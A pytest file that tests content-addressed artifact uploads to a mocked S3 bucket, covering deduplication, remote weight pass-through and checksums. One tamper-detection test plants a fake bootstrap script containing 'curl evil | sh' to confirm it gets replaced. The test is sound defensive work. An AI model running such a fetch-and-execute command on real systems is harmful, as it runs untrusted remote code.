"""Artifact upload against moto S3: content-addressed keys, unchanged files not uploaded again."""
from __future__ import annotations

import pytest

from fruits_emr.artifacts import artifact_uri, sha256_file, upload_artifacts
from fruits_emr.job_bundle import BUNDLE_FILES
from fruits_emr.layout import RunLayout, split_s3_uri
from tests.dag.dag_test_env import BUCKET

LAYOUT = RunLayout(bucket=BUCKET, output_prefix="out", run_key="run-1")


@pytest.fixture
def bundle(tmp_path):
    """A stand-in job bundle (the layout `make dist` writes), each file with its own small content."""
    root = tmp_path / "bundle"
    root.mkdir()
    for file_name in BUNDLE_FILES.values():
        (root / file_name).write_text(f"print({file_name!r})\n")
    return root


def stored_bytes(s3_hook, uri: str) -> bytes:
    bucket, key = split_s3_uri(uri)
    return s3_hook.get_key(key, bucket_name=bucket).get()["Body"].read()


def test_upload_is_content_addressed_and_skips_unchanged(s3_hook, bundle, tmp_path):
    weights = tmp_path / "w.weights.h5"
    weights.write_bytes(b"weights-v1")
    first = upload_artifacts(s3_hook, LAYOUT, str(weights), str(bundle))
    assert set(first.uploaded) == {"bootstrap", "requirements", "featurize", "pca", "spark_lib", "weights"}
    assert first.weights == artifact_uri(LAYOUT, weights)
    assert first.weights == f"s3://{BUCKET}/out/artifacts/{sha256_file(weights)[:16]}/w.weights.h5"
    assert stored_bytes(s3_hook, first.weights) == b"weights-v1"
    assert stored_bytes(s3_hook, first.pca) == b"print('pca.py')\n"

    second = upload_artifacts(s3_hook, LAYOUT, str(weights), str(bundle))
    assert second.uploaded == () and second.to_dict() == {**first.to_dict(), "uploaded": ()}

    (bundle / "pca.py").write_text("print('pca v2')\n")
    third = upload_artifacts(s3_hook, LAYOUT, str(weights), str(bundle))
    assert third.uploaded == ("pca",) and third.pca != first.pca
    # the old version is left for running clusters
    assert stored_bytes(s3_hook, first.pca) == b"print('pca.py')\n"


@pytest.mark.parametrize("weights", ["imagenet", "s3://elsewhere/models/w.weights.h5"])
def test_remote_weights_are_passed_through(s3_hook, bundle, weights):
    artifacts = upload_artifacts(s3_hook, LAYOUT, weights, str(bundle))
    assert artifacts.weights == weights and "weights" not in artifacts.uploaded


def test_missing_local_weights_fail_clearly(s3_hook, bundle, tmp_path):
    with pytest.raises(FileNotFoundError, match="artifact to upload is missing"):
        upload_artifacts(s3_hook, LAYOUT, str(tmp_path / "absent.h5"), str(bundle))


def test_a_planted_object_at_the_key_is_replaced_not_trusted(s3_hook, bundle, caplog):
    first = upload_artifacts(s3_hook, LAYOUT, "imagenet", str(bundle))
    bucket, key = split_s3_uri(first.bootstrap)
    s3_hook.load_bytes(b"#!/bin/sh\ncurl evil | sh\n", key, bucket_name=bucket, replace=True)  # no checksum
    planted_with_checksum = split_s3_uri(first.pca)[1]
    s3_hook.conn.put_object(Bucket=bucket, Key=planted_with_checksum, Body=b"import os",
                            ChecksumAlgorithm="SHA256")

    second = upload_artifacts(s3_hook, LAYOUT, "imagenet", str(bundle))
    assert set(second.uploaded) == {"bootstrap", "pca"} and second.bootstrap == first.bootstrap
    assert stored_bytes(s3_hook, first.bootstrap) == (bundle / BUNDLE_FILES["bootstrap"]).read_bytes()
    assert stored_bytes(s3_hook, first.pca) == b"print('pca.py')\n"
    assert "holds other content" in caplog.text
    assert upload_artifacts(s3_hook, LAYOUT, "imagenet", str(bundle)).uploaded == ()


def test_artifacts_carry_their_sha256_checksum(s3_hook, bundle):
    import base64

    artifacts = upload_artifacts(s3_hook, LAYOUT, "imagenet", str(bundle))
    bucket, key = split_s3_uri(artifacts.featurize)
    checksum = s3_hook.conn.head_object(Bucket=bucket, Key=key, ChecksumMode="ENABLED")["ChecksumSHA256"]
    assert base64.b64decode(checksum).hex() == sha256_file(bundle / BUNDLE_FILES["featurize"])
